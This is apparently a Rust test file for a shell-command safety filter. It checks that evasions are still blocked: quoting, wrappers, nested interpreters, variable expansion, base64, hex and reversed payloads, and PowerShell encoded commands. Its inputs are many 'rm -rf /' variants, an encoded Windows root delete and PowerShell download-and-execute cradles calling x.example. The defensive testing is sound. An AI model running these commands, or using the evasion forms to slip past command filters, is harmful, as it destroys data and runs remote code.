//! Evasions: quoting, wrappers, nesting, variables, decoding, PowerShell.

use super::blocked_by;

#[test]
fn quoting_tricks_do_not_hide_the_program() {
    blocked_by(
        "root-delete",
        &[
            "r''m -rf /",
            "\"r\"m -rf /",
            "\\rm -rf /",
            "r\\m -rf /",
            "'rm' -rf /",
        ],
    );
}

#[test]
fn combined_and_long_flags_are_the_same_flags() {
    blocked_by(
        "root-delete",
        &[
            "rm -rf /",
            "rm -fr /",
            "rm -r -f /",
            "rm --recursive --force /",
            "rm -Rf /",
        ],
    );
}

#[test]
fn wrappers_are_seen_through() {
    blocked_by(
        "root-delete",
        &[
            "sudo rm -rf /",
            "sudo -u root -E rm -rf /",
            "doas rm -rf /",
            "env A=1 rm -rf /",
            "nohup rm -rf / &",
            "timeout 5 rm -rf /",
            "nice -n 10 rm -rf /",
            "ionice -c3 rm -rf /",
            "stdbuf -o0 rm -rf /",
            "busybox rm -rf /",
            "command rm -rf /",
            "exec rm -rf /",
            "builtin command rm -rf /",
            "/usr/bin/rm -rf /",
            "env -S 'rm -rf /'",
        ],
    );
}

#[test]
fn nested_programs_are_judged() {
    blocked_by(
        "root-delete",
        &[
            "sh -c 'rm -rf /'",
            "bash -lc \"rm -rf /\"",
            "zsh -c 'rm -rf /'",
            "eval 'rm -rf /'",
            "echo / | xargs rm -rf",
            "xargs sh -c 'rm -rf /' <<< x",
            "find . -maxdepth 0 -exec sh -c 'rm -rf /' \\;",
            "ssh web1 'rm -rf /'",
            "su -c 'rm -rf /'",
            "python3 -c 'import os; os.system(\"rm -rf /\")'",
            "perl -e 'system(\"rm -rf /\")'",
            "ruby -e 'system(\"rm -rf /\")'",
            "node -e 'require(\"child_process\").execSync(\"rm -rf /\")'",
            "php -r 'system(\"rm -rf /\");'",
            "ls; (cd /srv && rm -rf /)",
            "{ ls; rm -rf /; }",
            "true && rm -rf / || true",
            "echo $(rm -rf /)",
            "echo `rm -rf /`",
            "cat <(rm -rf /)",
            "if true; then rm -rf /; fi",
        ],
    );
}

#[test]
fn values_known_to_the_shell_are_filled_in() {
    blocked_by(
        "root-delete",
        &[
            "x=rm; $x -rf /",
            "x=rm; ${x} -rf /",
            "${X:-rm} -rf /",
            "$(echo rm) -rf /",
            "`echo rm` -rf /",
            "$(printf 'r%s' m) -rf /",
            "rm${IFS}-rf${IFS}/",
            "{rm,-rf,/}",
            "c=$'\\x72\\x6d'; $c -rf /",
            "IFS=,; `echo rm,-rf,/`",
        ],
    );
}

#[test]
fn literal_payloads_are_decoded() {
    blocked_by(
        "root-delete",
        &[
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "base64 -d <<< cm0gLXJmIC8= | sh",
            "echo 726d202d7266202f | xxd -r -p | bash",
            "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
            "echo '/ fr- mr' | rev | sh",
            "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
            "$(echo cm0gLXJmIC8= | base64 -d)",
        ],
    );
}

#[test]
fn powershell_forms() {
    let enc = "ZABlAGwAIAAtAHIAZQBjAHUAcgBzAGUAIAAtAGYAbwByAGMAZQAgAEMAOgBcAA=="; // del -recurse -force C:\
    blocked_by(
        "windows-root-delete",
        &[
            &format!("powershell -enc {enc}"),
            &format!("pwsh -EncodedCommand {enc}"),
        ],
    );
    blocked_by(
        "ps-download-cradle",
        &["powershell -c \"I`EX (iwr http://x.example/a)\""],
    );
    blocked_by(
        "download-exec",
        &["powershell.exe -nop -c \"iwr http://x.example/a | iex\""],
    );
}
